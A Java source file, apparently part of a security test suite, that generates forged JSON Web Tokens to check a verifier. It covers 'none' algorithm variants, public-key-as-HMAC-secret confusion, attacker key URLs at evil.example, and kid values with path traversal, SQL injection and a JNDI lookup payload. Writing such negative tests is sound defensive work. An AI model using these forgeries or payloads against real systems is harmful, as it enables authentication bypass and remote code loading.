package dev.entrepot;

import static dev.entrepot.TokenParts.bytes;
import static dev.entrepot.TokenParts.part;
import static dev.entrepot.TokenParts.quoted;
import static dev.entrepot.TokenParts.with;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import dev.entrepot.access.TokenForger;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// Tokens whose header lies: about the algorithm, the key, the kind.
final class HostileHeaders {
    private final TokenParts parts;
    private final ECKey stranger;

    HostileHeaders(TokenParts parts) {
        this.parts = parts;
        try {
            this.stranger = new ECKeyGenerator(Curve.P_256).keyID("stranger").generate();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    void add() {
        algorithms();
        publicKeyAsSecret();
        strangersKeys();
        keyIds();
        criticalHeaders();
        types();
    }

    private void algorithms() {
        List<String> none = List.of("none", "None", "NONE", "nOnE", "noNe", "none ", " none", "n\u043ene", "");
        for (String alg : none) {
            String changed = part(with(parts.header, "alg", quoted(alg))) + "." + part(parts.payload);
            parts.add("alg \"" + alg + "\" and no signature", changed + ".");
            parts.add("alg \"" + alg + "\" and the old signature", changed + "." + parts.signature);
        }
        List<String> others = List.of(
                "null",
                "0",
                "true",
                "[]",
                "{}",
                "[\"ES256\"]",
                "\"es256\"",
                "\"Es256\"",
                "\"ES256 \"",
                "\"ES256K\"",
                "\"ES384\"",
                "\"ES512\"",
                "\"HS256\"",
                "\"HS384\"",
                "\"HS512\"",
                "\"RS256\"",
                "\"PS256\"",
                "\"EdDSA\"",
                "\"Ed25519\"",
                "\"dir\"",
                "\"ECDH-ES\"",
                "\"RSA-OAEP\"",
                "\"ES256\\u0000\"",
                "");
        for (String alg : others) {
            parts.add("alg " + alg + ", signed here", parts.forger.sign(with(parts.header, "alg", alg), parts.payload));
        }
    }

    private void publicKeyAsSecret() {
        byte[] der = parts.forger.publicKey().getEncoded();
        String base64 = Base64.getEncoder().encodeToString(der);
        String pem =
                "-----BEGIN PUBLIC KEY-----\n" + base64.replaceAll("(.{64})", "$1\n") + "\n-----END PUBLIC KEY-----";
        ECKey jwk = new ECKey.Builder(Curve.P_256, parts.forger.publicKey()).build();
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        secrets.put("DER", der);
        secrets.put("PEM", pem.getBytes(StandardCharsets.US_ASCII));
        secrets.put("PEM with a line break", (pem + "\n").getBytes(StandardCharsets.US_ASCII));
        secrets.put("base64", base64.getBytes(StandardCharsets.US_ASCII));
        secrets.put("JWK", jwk.toJSONString().getBytes(StandardCharsets.US_ASCII));
        secrets.put("key id", parts.forger.kid().getBytes(StandardCharsets.US_ASCII));
        secrets.put("zeros", new byte[64]);
        secrets.forEach((name, secret) -> {
            for (JWSAlgorithm algorithm : List.of(JWSAlgorithm.HS256, JWSAlgorithm.HS384, JWSAlgorithm.HS512)) {
                String changed = with(parts.header, "alg", quoted(algorithm.getName()));
                parts.add(algorithm + " with the public key as secret: " + name, mac(algorithm, secret, changed));
            }
        });
    }

    private String mac(JWSAlgorithm algorithm, byte[] secret, String changed) {
        String input = part(changed) + "." + part(parts.payload);
        try {
            byte[] padded = secret.length < 64 ? Arrays.copyOf(secret, 64) : secret;
            return input + "."
                    + new MACSigner(padded)
                            .sign(
                                    new com.nimbusds.jose.JWSHeader(algorithm),
                                    input.getBytes(StandardCharsets.US_ASCII));
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    /// Keys that the token brings along, or says where to get.
    private void strangersKeys() {
        String jwk = stranger.toPublicJWK().toJSONString();
        Map<String, String> hints = new LinkedHashMap<>();
        hints.put("nothing", "");
        hints.put("jwk", jwk);
        hints.put("jwk with its private part", stranger.toJSONString());
        hints.put("jku", quoted("https://evil.example/keys"));
        hints.put("jku of this machine", quoted("http://127.0.0.1:1/keys"));
        hints.put("x5u", quoted("https://evil.example/chain.pem"));
        hints.put("x5c", "[\"MIIB\"]");
        hints.put("x5t", quoted("AAAAAAAAAAAAAAAAAAAAAAAAAAA"));
        hints.put("x5t#S256", quoted("A".repeat(43)));
        hints.forEach((name, value) -> {
            String hint = name.split(" ", 2)[0];
            String hinted = value.isEmpty() ? parts.header : with(parts.header, hint, value);
            parts.add("a stranger's key under our kid, with " + name, strangers(hinted));
            parts.add(
                    "a stranger's key under its kid, with " + name, strangers(with(hinted, "kid", quoted("stranger"))));
            parts.add("a stranger's key without kid, with " + name, strangers(with(hinted, "kid", "")));
        });
    }

    private String strangers(String changed) {
        try {
            return TokenForger.sign(new ECDSASigner(stranger), bytes(changed), bytes(parts.payload));
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    private void keyIds() {
        String kid = parts.forger.kid();
        List<String> others = List.of(
                "unknown",
                " ",
                "../../../../etc/passwd",
                "/dev/null",
                "file:///dev/null",
                "..\\..\\key",
                "secret-key",
                "' OR '1'='1",
                "'; DROP TABLE signing_key; --",
                "\" OR 1=1 --",
                "%' --",
                kid + "\u0000",
                kid + " ",
                " " + kid,
                kid + "'",
                "%00",
                "%s%n",
                "${jndi:ldap://evil.example/a}",
                "http://127.0.0.1:1/key",
                kid.substring(1),
                kid + kid,
                "k".repeat(8_000),
                "\u0000",
                "\u202e" + kid);
        for (String other : others) {
            String shown = other.length() > 40 ? others.indexOf(other) + "…" : other;
            parts.add(
                    "kid " + quoted(shown) + " of " + other.length(),
                    parts.forger.sign(with(parts.header, "kid", quoted(other)), parts.payload));
        }
        for (String other : List.of("", "null", "1", "[]", "{}", "[" + quoted(kid) + "]", "true")) {
            parts.add("kid as JSON " + other, parts.forger.sign(with(parts.header, "kid", other), parts.payload));
        }
    }

    private void criticalHeaders() {
        List<String> lists = List.of(
                "[\"b64\"]", "[\"exp\"]", "[\"http://evil.example/x\"]", "[\"alg\"]", "[1]", "\"exp\"", "1", "{}");
        for (String list : lists) {
            parts.add(
                    "crit " + list,
                    parts.forger.sign(with(with(parts.header, "crit", list), "exp", "1"), parts.payload));
        }
        parts.add(
                "b64 false",
                parts.forger.sign(with(with(parts.header, "crit", "[\"b64\"]"), "b64", "false"), parts.payload));
        parts.add(
                "enc beside alg",
                parts.forger.sign(with(with(parts.header, "alg", "\"dir\""), "enc", "\"A128GCM\""), parts.payload));
    }

    private void types() {
        List<String> types = List.of(
                "",
                "null",
                "1",
                "[]",
                "\"\"",
                "\"at+jwt\"",
                "\"JOSE\"",
                "\"JWE\"",
                "\"logout+jwt\"",
                "\"dpop+jwt\"",
                "\"application/jwt\"",
                "\"JWT \"",
                "\"refresh\"");
        for (String type : types) {
            parts.add(
                    "typ " + type + ", signed here", parts.forger.sign(with(parts.header, "typ", type), parts.payload));
        }
    }
}
